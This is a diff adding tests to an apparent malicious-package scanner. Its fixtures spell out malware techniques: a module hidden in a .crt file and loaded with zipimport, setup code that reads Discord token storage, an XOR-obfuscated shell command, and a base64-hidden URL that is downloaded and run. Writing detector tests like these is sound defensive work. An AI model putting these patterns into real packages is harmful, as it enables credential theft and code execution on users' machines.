@@ -94,3 +94,74 @@ def test_installer_naming_the_platform_is_not_a_beacon() -> None:
     )
     r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/tool.py": mod})
     assert "identity-beacon" not in rules(r)
+
+
+def test_module_loaded_from_a_file_disguised_as_data() -> None:
+    lib = (
+        "import os\nimport zipimport\n\n"
+        "def get():\n"
+        "    m = zipimport.zipimporter(f'{os.path.dirname(__file__)}/server.crt').load_module('x')\n"
+        "    return m\n"
+    )
+    files = {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/routes.py": lib,
+             "demo/server.crt": "-----BEGIN CERTIFICATE-----\ninert\n"}
+    files.update({f"demo/m{i}.py": "X = 1\n" for i in range(8)})
+    r = scan(files)
+    assert rules(r).get("disguised-module") == "high"
+    assert r.verdict == "malicious"
+
+
+def test_loading_a_zip_or_a_missing_file_is_not_disguised() -> None:
+    lib = (
+        "import zipimport\nfrom importlib.machinery import SourcelessFileLoader as L\n\n"
+        "def get():\n"
+        "    zipimport.zipimporter('plugins.zip').load_module('p')\n"
+        "    return L('x', 'cache.pyc').load_module('x')\n"
+    )
+    files = {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/routes.py": lib,
+             "demo/plugins.zip": b"PK\x05\x06" + b"\x00" * 18}
+    r = scan(files)
+    assert "disguised-module" not in rules(r)
+
+
+def test_setup_touching_chat_tokens_is_theft_even_without_network() -> None:
+    setup = PLAIN_SETUP + (
+        "import os\n"
+        "STORE = os.path.join(os.getenv('APPDATA', ''), 'discord/Local Storage/leveldb')\n"
+        "names = os.listdir(STORE) if os.path.isdir(STORE) else []\n"
+    )
+    r = scan({"setup.py": setup, "demo/__init__.py": ""})
+    assert rules(r).get("credential-theft") == "high"
+
+
+def test_command_decoded_from_xor_bytes_runs_on_import() -> None:
+    key = 0x5A
+    hidden = bytes(b ^ key for b in b"echo inert")
+    init = (
+        "import subprocess\n\n"
+        "def helper(path):\n"
+        f"    blob = {hidden!r}\n"
+        f"    cmd = bytes([b ^ {key} for b in blob]).decode()\n"
+        "    subprocess.run(cmd + ' ' + path, shell=True)\n"
+    )
+    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": init})
+    assert rules(r).get("decoded-command") == "high"
+
+
+def test_library_download_from_base64_hidden_address_then_run() -> None:
+    import base64
+
+    url = base64.b64encode(b"https://files.example.invalid/tool.py").decode()
+    lib = (
+        "import base64, subprocess, urllib.request\n\n"
+        "def task(target):\n"
+        f"    url = base64.b64decode({url!r}).decode()\n"
+        "    data = urllib.request.urlopen(url).read()\n"
+        "    with open(target, 'wb') as f:\n"
+        "        f.write(data)\n"
+        "    subprocess.Popen(['open', target])\n"
+    )
+    files = {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/core.py": lib}
+    files.update({f"demo/m{i}.py": "X = 1\n" for i in range(8)})
+    r = scan(files)
+    assert rules(r).get("dropper") == "high"
